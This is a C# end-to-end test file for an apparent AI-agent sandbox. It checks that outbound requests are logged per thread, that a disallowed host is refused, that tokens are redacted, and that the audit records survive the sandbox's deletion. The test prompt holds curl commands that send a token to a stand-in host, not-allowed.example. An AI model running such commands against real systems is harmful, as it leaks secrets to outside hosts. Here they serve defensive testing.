using System.Text.Json;
using Npgsql;
using Shouldly;
using Xunit;

namespace Centaur.EndToEnd.Egress;

/// <summary>What a real turn sent can be read by its thread when it is over, after its sandbox is gone too, and is proved by the chain (invariants I5 and I7).</summary>
public sealed class EgressTests(EgressTests.Forgetful installation) : IClassFixture<EgressTests.Forgetful>
{
    static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    /// <summary>Nothing of a sandbox that has ended is kept for long.</summary>
    public sealed class Forgetful : Installation
    {
        protected override string MoreConfiguration => "sandbox: {reconcile_seconds: 0.5, suspended_retention_seconds: 1, warm_pool: {size: 0}}";
    }

    [Fact]
    public async Task A_turns_requests_and_refusals_are_read_by_thread_and_outlive_the_sandbox_with_its_file()
    {
        var conversation = new Conversation(installation, "built-in");
        var ended = await conversation.Say("Run: curl -s -m 10 https://not-allowed.example/?token=geheim; curl -s -m 10 https://api.openai.com/v1/nothing?token=geheim", Cancellation);
        ended.GetProperty("status").GetString().ShouldBe("completed", ended.ToString());
        var sandbox = SandboxProcesses.SandboxId(installation, conversation.ThreadKey);

        var records = await Records(conversation, all => all.Count(r => r.Text("kind") == "intent") == all.Count(r => r.Text("kind") == "outcome") && all.Count > 4);

        records.ShouldAllBe(r => r.Text("thread") == conversation.ThreadKey && r.Text("sandbox") == sandbox && r.Text("turn").StartsWith("turn-") && r.Text("principal").Length > 0);
        var asked = records.First(r => r.Text("kind") == "intent" && r.Text("method") == "POST");
        (asked.Text("host"), asked.Text("rule"), asked.GetProperty("secrets").EnumerateArray().Single().GetString()).ShouldBe(("api.openai.com", "model", "OPENAI_API_KEY"));
        var outcome = records.Single(r => r.Text("kind") == "outcome" && r.Text("id") == asked.Text("id"));
        outcome.GetProperty("status").GetInt32().ShouldBe(200);
        outcome.GetProperty("bytes_sent").GetInt64().ShouldBeGreaterThan(0);
        outcome.GetProperty("bytes_received").GetInt64().ShouldBeGreaterThan(0);
        var refused = records.Single(r => r.Text("kind") == "refusal");
        (refused.Text("host"), refused.Text("cause"), refused.GetProperty("status").GetInt32()).ShouldBe(("not-allowed.example", "host_not_allowed", 403));
        records.Single(r => r.Text("path") == "/v1/nothing").GetProperty("query").GetString().ShouldBe("token=…");
        JsonSerializer.Serialize(records).ShouldNotContain("geheim");
        JsonSerializer.Serialize(records).ShouldNotContain(installation.Model.Key);

        (await installation.Cli(["egress", "show", "--thread", conversation.ThreadKey], null, Cancellation)).Succeeded().Output.ShouldContain("REFUSED");
        (await installation.Cli(["egress", "verify"], null, Cancellation)).Succeeded().Output.ShouldStartWith("Holds:");

        await conversation.Stop(Cancellation);
        await Programs.Until(() => Count($"select count(*) from egress_anchors where sandbox_id = '{sandbox}' and closed_at is not null") == 1, Cancellation);
        await Programs.Until(() => !Directory.Exists(Path.Combine(installation.Layout.SandboxesFolder, sandbox)), Cancellation);
        (await Records(conversation, _ => true)).Count.ShouldBeGreaterThanOrEqualTo(records.Count);
        (await installation.Cli(["egress", "verify", "--sandbox", sandbox], null, Cancellation)).Succeeded();
    }

    Task<List<JsonElement>> Records(Conversation conversation, Func<List<JsonElement>, bool> whole) => EgressRecords.Of(installation, conversation, whole, Cancellation);

    long Count(string query)
    {
        using var source = NpgsqlDataSource.Create(installation.Layout.EmbeddedDatabaseUrl);
        using var command = source.CreateCommand(query);
        return (long)command.ExecuteScalar()!;
    }
}
